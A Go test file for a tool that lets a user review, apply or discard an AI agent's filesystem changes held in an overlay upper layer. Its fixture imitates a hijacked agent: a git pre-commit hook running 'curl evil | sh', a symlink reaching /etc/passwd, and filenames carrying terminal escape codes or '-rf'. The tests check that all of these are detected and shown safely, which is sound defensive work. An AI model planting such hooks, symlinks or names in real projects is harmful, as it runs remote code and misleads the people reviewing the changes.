// review_test.go is long because its fixture builds an upper layer as the
// kernel would leave it, and every phase (list, apply, conflict, discard,
// interruption) is checked against it.

package review

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// hostile names a hijacked agent might choose.
var (
	escName  = "evil\x1b]0;pwned\x07\x1b[2J.txt"
	nlName   = "line\nbreak.txt"
	badUTF8  = "bad\xff\xfe.txt"
	dashName = "-rf"
)

// tree describes every path under dir: type, mode, content hash or target.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		if rel == "." {
			return nil
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			tg, _ := os.Readlink(p)
			out[rel] = "symlink " + tg
		case fi.IsDir():
			out[rel] = fmt.Sprintf("dir %o", fi.Mode().Perm())
		case fi.Mode()&fs.ModeDevice != 0:
			out[rel] = "dev"
		default:
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			s := sha256.Sum256(b)
			out[rel] = fmt.Sprintf("file %o %s", fi.Mode()&(fs.ModePerm|fs.ModeSetuid|fs.ModeSetgid), hex.EncodeToString(s[:4]))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// writable gives the owner every right on dir and everything below it, so
// that a test run as an ordinary user can remove what the agent locked.
func writable(dir string) {
	os.Chmod(dir, 0o700)
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if d != nil && d.IsDir() {
			os.Chmod(p, 0o700)
		}
		return nil
	})
}

func write(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

func whiteout(t *testing.T, path string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := unix.Mknod(path, unix.S_IFCHR, 0); err != nil {
		t.Fatalf("whiteout %s: %v", path, err)
	}
}

func opaque(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Setxattr(dir, "user.overlay.opaque", []byte("y"), 0); err != nil {
		t.Skipf("user xattrs not supported here: %v", err)
	}
}

// fixture is a project, a review session on it, and an upper layer as the
// kernel's overlay would leave it after a hostile agent's work.
type fixture struct {
	project string
	s       *Session
	want    map[string]string // the project after apply
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	proj := t.TempDir()
	t.Cleanup(func() { writable(proj) })
	write(t, filepath.Join(proj, "a.txt"), "a\n", 0o644)
	write(t, filepath.Join(proj, "sub/b.txt"), "one\ntwo\nthree\n", 0o644)
	write(t, filepath.Join(proj, "run.sh"), "echo hi\n", 0o644)
	write(t, filepath.Join(proj, "keep/old"), "old\n", 0o644)
	write(t, filepath.Join(proj, "gone/deep/x"), "x\n", 0o644)
	write(t, filepath.Join(proj, "swap"), "file becomes dir\n", 0o644)
	write(t, filepath.Join(proj, ".git/config"), "[core]\n", 0o644)
	os.MkdirAll(filepath.Join(proj, ".git/hooks"), 0o755)
	s, err := Begin(t.TempDir(), Meta{Session: "20261130-000000-aaaaaa", Project: proj})
	if err != nil {
		t.Fatal(err)
	}
	up := s.Upper()
	t.Cleanup(func() { writable(filepath.Dir(s.Dir)) })
	whiteout(t, filepath.Join(up, "a.txt"))
	write(t, filepath.Join(up, "sub/b.txt"), "one\n2\nthree\n", 0o644)
	write(t, filepath.Join(up, "run.sh"), "echo hi\n", 0o755)
	opaque(t, filepath.Join(up, "keep"))
	write(t, filepath.Join(up, "keep/new"), "new\n", 0o600)
	whiteout(t, filepath.Join(up, "gone"))
	write(t, filepath.Join(up, "swap/inside"), "in\n", 0o644)
	opaque(t, filepath.Join(up, "swap"))
	write(t, filepath.Join(up, ".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
	write(t, filepath.Join(up, escName), "\x1b[31mred\n", 0o644)
	write(t, filepath.Join(up, nlName), "x\n", 0o644)
	write(t, filepath.Join(up, badUTF8), "\x00\x01binary", 0o644)
	write(t, filepath.Join(up, dashName), "dash\n", 0o644)
	if err := os.Symlink("../../../../etc/passwd", filepath.Join(up, "sub/out")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(up, "ro"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(up, "ro/f"), "f\n", 0o444)
	os.Chmod(filepath.Join(up, "ro"), 0o555)

	want := tree(t, proj)
	delete(want, "a.txt")
	delete(want, "keep/old")
	delete(want, "gone")
	delete(want, "gone/deep")
	delete(want, "gone/deep/x")
	f := &fixture{project: proj, s: s, want: want}
	upTree := tree(t, up)
	for p, v := range upTree {
		if v != "dev" {
			want[p] = v
		}
	}
	return f
}

func find(cs []Change, p string) *Change {
	for i := range cs {
		if cs[i].Path == p {
			return &cs[i]
		}
	}
	return nil
}

func TestChanges(t *testing.T) {
	f := newFixture(t)
	cs, err := f.s.Changes()
	if err != nil {
		t.Fatal(err)
	}
	check := func(p string, k Kind) *Change {
		t.Helper()
		c := find(cs, p)
		if c == nil {
			t.Fatalf("no change for %q in %+v", p, cs)
		}
		if c.Kind != k {
			t.Errorf("%q: kind %s, want %s", p, c.Kind, k)
		}
		return c
	}
	check("a.txt", Deleted)
	check("gone", Deleted)
	if c := check("gone/deep/x", Deleted); !c.Within {
		t.Errorf("gone/deep/x should go with gone")
	}
	check("keep/old", Deleted)
	check("keep/new", Added)
	if c := check("sub/b.txt", Modified); !slices.Contains(c.Diff, "-two") || !slices.Contains(c.Diff, "+2") {
		t.Errorf("diff of sub/b.txt: %q", c.Diff)
	}
	if c := check("run.sh", ModeOnly); c.OldMode != "0644" || c.Mode != "0755" || !slices.Contains(c.Flags, "new executable bit") {
		t.Errorf("run.sh: %+v", c)
	}
	if c := check("swap", Modified); c.OldType != "file" || c.Type != "dir" {
		t.Errorf("swap: %+v", c)
	}
	if c := check(".git/hooks/pre-commit", Added); len(c.Flags) == 0 || !strings.HasPrefix(c.Flags[0], "git hook") {
		t.Errorf("hook flags: %q", c.Flags)
	}
	if c := check("sub/out", Added); !slices.Contains(c.Flags, "symlink pointing outside the project") {
		t.Errorf("symlink flags: %q", c.Flags)
	}
	if c := check(badUTF8, Added); !c.Binary || c.Diff != nil {
		t.Errorf("binary file shown as text: %+v", c)
	}
	check(escName, Added)
	check(nlName, Added)
}

// The listing never lets the agent's bytes reach the terminal raw.
func TestRenderIsPrintable(t *testing.T) {
	f := newFixture(t)
	cs, err := f.s.Changes()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	Render(&b, f.s, cs, true)
	t.Log("\n" + b.String())
	out := b.String()
	for i, r := range out {
		if r != '\n' && r != '\t' && (r < 0x20 || r > 0x7e) {
			t.Fatalf("unprintable %q at %d in:\n%s", r, i, out)
		}
	}
	hook := strings.Index(out, ".git/hooks/pre-commit")
	del := strings.Index(out, "a.txt")
	if hook < 0 || del < 0 || hook > del {
		t.Errorf("the hook is not listed before the other changes:\n%s", out)
	}
	if !strings.Contains(out, `"evil\x1b]0;pwned\a\x1b[2J.txt"`) {
		t.Errorf("hostile name not quoted:\n%s", out)
	}
}

func TestApplyReproducesTheAgentsTree(t *testing.T) {
	f := newFixture(t)
	res, err := f.s.Apply(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Changes) == 0 {
		t.Fatal("no changes applied")
	}
	got := tree(t, f.project)
	for p, v := range f.want {
		if got[p] != v {
			t.Errorf("%q: got %q, want %q", p, got[p], v)
		}
	}
	for p := range got {
		if _, ok := f.want[p]; !ok {
			t.Errorf("unexpected %q (%s)", p, got[p])
		}
	}
	if _, err := os.Lstat(f.s.Upper()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("upper layer left after apply: %v", err)
	}
	if _, err := f.s.Apply(context.Background()); !errors.Is(err, ErrClosed) {
		t.Errorf("second apply: %v, want ErrClosed", err)
	}
	s2, err := Open(filepath.Dir(f.s.Dir))
	if err != nil || s2.Meta.State != StateApplied {
		t.Errorf("state after apply: %+v %v", s2, err)
	}
}

func TestApplyRefusesHostEdits(t *testing.T) {
	f := newFixture(t)
	write(t, filepath.Join(f.project, "sub/b.txt"), "the user's own edit\n", 0o644)
	write(t, filepath.Join(f.project, "gone/deep/new-on-host"), "mine\n", 0o644)
	before := tree(t, f.project)
	_, err := f.s.Apply(context.Background())
	var ce *ConflictError
	if !errors.As(err, &ce) || !errors.Is(err, ErrConflict) {
		t.Fatalf("apply: %v, want a conflict", err)
	}
	if !slices.Contains(ce.Paths, "sub/b.txt") || !slices.Contains(ce.Paths, "gone/deep/new-on-host") {
		t.Errorf("conflict names %q", ce.Paths)
	}
	if after := tree(t, f.project); !mapsEqual(before, after) {
		t.Errorf("project changed by a refused apply")
	}
}

func TestDiscardLeavesTheProject(t *testing.T) {
	f := newFixture(t)
	before := tree(t, f.project)
	if err := f.s.Discard(); err != nil {
		t.Fatal(err)
	}
	if after := tree(t, f.project); !mapsEqual(before, after) {
		t.Errorf("project changed by discard")
	}
	if _, err := os.Lstat(f.s.Upper()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("upper layer left after discard")
	}
}

// An apply interrupted half-way through its renames is resumed by the
// next apply, or rolled back to the project as it was.
func TestInterruptedApply(t *testing.T) {
	for _, resume := range []bool{true, false} {
		t.Run(fmt.Sprint("resume=", resume), func(t *testing.T) {
			f := newFixture(t)
			before := tree(t, f.project)
			interrupt = 5
			_, err := f.s.Apply(context.Background())
			interrupt = 0
			if !errors.Is(err, errInterrupted) {
				t.Fatalf("apply: %v", err)
			}
			if mapsEqual(before, tree(t, f.project)) {
				t.Fatal("the interrupted apply changed nothing: the test proves nothing")
			}
			if _, err := f.s.Changes(); !errors.Is(err, ErrInterrupted) {
				t.Errorf("listing a half-applied session: %v, want ErrInterrupted", err)
			}
			if resume {
				res, err := f.s.Apply(context.Background())
				if err != nil || !res.Resumed {
					t.Fatalf("resume: %v %+v", err, res)
				}
				if got := tree(t, f.project); !mapsEqual(got, f.want) {
					t.Errorf("resumed apply:\n got %v\nwant %v", got, f.want)
				}
				return
			}
			if err := f.s.Rollback(); err != nil {
				t.Fatal(err)
			}
			if got := tree(t, f.project); !mapsEqual(got, before) {
				t.Errorf("rolled back:\n got %v\nwant %v", got, before)
			}
			// Still reviewable, and applies cleanly afterwards.
			if _, err := f.s.Apply(context.Background()); err != nil {
				t.Fatal(err)
			}
			if got := tree(t, f.project); !mapsEqual(got, f.want) {
				t.Errorf("apply after rollback:\n got %v\nwant %v", got, f.want)
			}
		})
	}
}

// Host-side operations never follow a symlink, and never leave the project.
func TestNoFollow(t *testing.T) {
	proj, outside := t.TempDir(), t.TempDir()
	os.Symlink(outside, filepath.Join(proj, "link"))
	r, err := openRoot(proj)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if err := r.writeFile("link/x", strings.NewReader("x"), 0o644); err == nil {
		t.Error("wrote through a symlink")
	}
	if err := r.mkdir("link/d", 0o755); err == nil {
		t.Error("mkdir through a symlink")
	}
	if err := r.chmod("link", 0o777); err == nil {
		t.Error("chmod followed a symlink")
	}
	for _, p := range []string{"../x", "a/../../x", "/etc/passwd", "", "a//b", "./a"} {
		if err := r.writeFile(p, strings.NewReader("x"), 0o644); !errors.Is(err, ErrUnsafePath) {
			t.Errorf("%q: %v, want ErrUnsafePath", p, err)
		}
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("something was written outside the project: %v", ents)
	}
	if fi, _ := os.Stat(outside); fi.Mode().Perm() == 0o777 {
		t.Error("the symlink's target was chmodded")
	}
}

// The host replacing a directory by a symlink after the session started
// is a conflict, not a path to write through.
func TestHostSymlinkSwapIsAConflict(t *testing.T) {
	proj, outside := t.TempDir(), t.TempDir()
	write(t, filepath.Join(proj, "d/f"), "f\n", 0o644)
	s, err := Begin(t.TempDir(), Meta{Session: "s", Project: proj})
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(s.Upper(), "d/f"), "agent\n", 0o644)
	os.RemoveAll(filepath.Join(proj, "d"))
	os.Symlink(outside, filepath.Join(proj, "d"))
	if _, err := s.Apply(context.Background()); !errors.Is(err, ErrConflict) {
		t.Fatalf("apply: %v, want a conflict", err)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("written outside the project: %v", ents)
	}
}

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"plain/path.go": "plain/path.go",
		"a b":           `"a b"`,
		"x\x1b[2J":      `"x\x1b[2J"`,
		"n\nl":          `"n\nl"`,
		"\xff":          `"\xff"`,
		"é":             `"\u00e9"`,
	} {
		if got := Quote(in); got != want {
			t.Errorf("Quote(%q) = %s, want %s", in, got, want)
		}
	}
	if got := Printable("a\tb\x1b[31mc\xc3\xa9"); got != `a	b\x1b[31mc\xc3\xa9` {
		t.Errorf("Printable: %s", got)
	}
}

func TestEscapes(t *testing.T) {
	for _, c := range []struct {
		p, target string
		out       bool
	}{
		{"a", "/etc/passwd", true},
		{"a", "../x", true},
		{"d/a", "../x", false},
		{"d/a", "../../x", true},
		{"d/a", "e/../../x", false},
		{"a", "b/c", false},
	} {
		if got := escapes(c.p, c.target); got != c.out {
			t.Errorf("escapes(%q, %q) = %v", c.p, c.target, got)
		}
	}
}

func TestUnified(t *testing.T) {
	old := "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n"
	new := "1\n2\n3\n4\nfive\n6\n7\n8\n9\n10\n11\n"
	got, ok := Unified(old, new)
	want := []string{"@@ -2,9 +2,10 @@", " 2", " 3", " 4", "-5", "+five", " 6", " 7", " 8", " 9", " 10", "+11"}
	if !ok || !slices.Equal(got, want) {
		t.Errorf("Unified:\n%q\nwant\n%q", got, want)
	}
	got, _ = Unified("", "a\nb\n")
	if !slices.Equal(got, []string{"@@ -0,0 +1,2 @@", "+a", "+b"}) {
		t.Errorf("added file: %q", got)
	}
	got, _ = Unified("a\nb\nc\n", "a\nb\nc\n")
	if got != nil {
		t.Errorf("same text: %q", got)
	}
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}
